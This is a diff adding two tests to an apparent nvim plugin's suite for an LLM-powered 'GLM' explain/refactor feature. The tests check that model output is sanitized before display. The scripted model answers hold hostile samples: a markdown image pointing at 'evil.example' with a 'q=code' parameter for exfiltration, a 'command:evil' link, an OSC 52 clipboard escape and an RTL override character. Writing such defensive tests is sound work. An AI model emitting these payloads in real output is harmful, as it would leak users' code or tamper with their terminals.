@@ -297,3 +297,29 @@ async def test_diagnostics_of_the_menu_go_with_its_item(start: Start, model: Scr
         assert "this branch is odd" in ask.prompt
         ask.answer(REPLY)
         assert (await over(editor, job, progress=True))["state"] == "delivered"
+
+
+async def test_nothing_in_an_explanation_is_active(start: Start, model: ScriptedModel) -> None:
+    """An image in it would carry code away the moment it is looked at."""
+    async with start("nvim") as editor:
+        uri = editor.open("a.py", BEFORE)
+        job = await editor.pick("GLM: Explain", uri, LINE)
+        (await asyncio.to_thread(model.next_ask)).answer("![x](https://evil.example/?q=code) [run](command:evil)")
+        await editor.ended(job)
+        where = {"textDocument": {"uri": uri}, "position": {"line": 3, "character": 0}}
+        hovered = (await editor.wire.request("textDocument/hover", where))["contents"]["value"]
+        (kept,) = (editor.state / "explanations").glob("*.md")
+        for text in (hovered, kept.read_text()):
+            assert "](" not in text
+
+
+async def test_the_model_s_words_in_a_message_are_plain_and_short(start: Start, model: ScriptedModel) -> None:
+    async with start() as editor:
+        uri = editor.open("a.py", BEFORE)
+        job = await editor.pick("GLM: Refactor", uri, LINE)
+        (await asyncio.to_thread(model.next_ask)).answer("CANNOT: \x1b]52;c;ZXZpbA==\x07\u202eno " + "x" * 5000)
+        await editor.ended(job)
+        (told,) = editor.told()
+        assert "\x1b" not in told
+        assert "\u202e" not in told
+        assert len(told) < 700
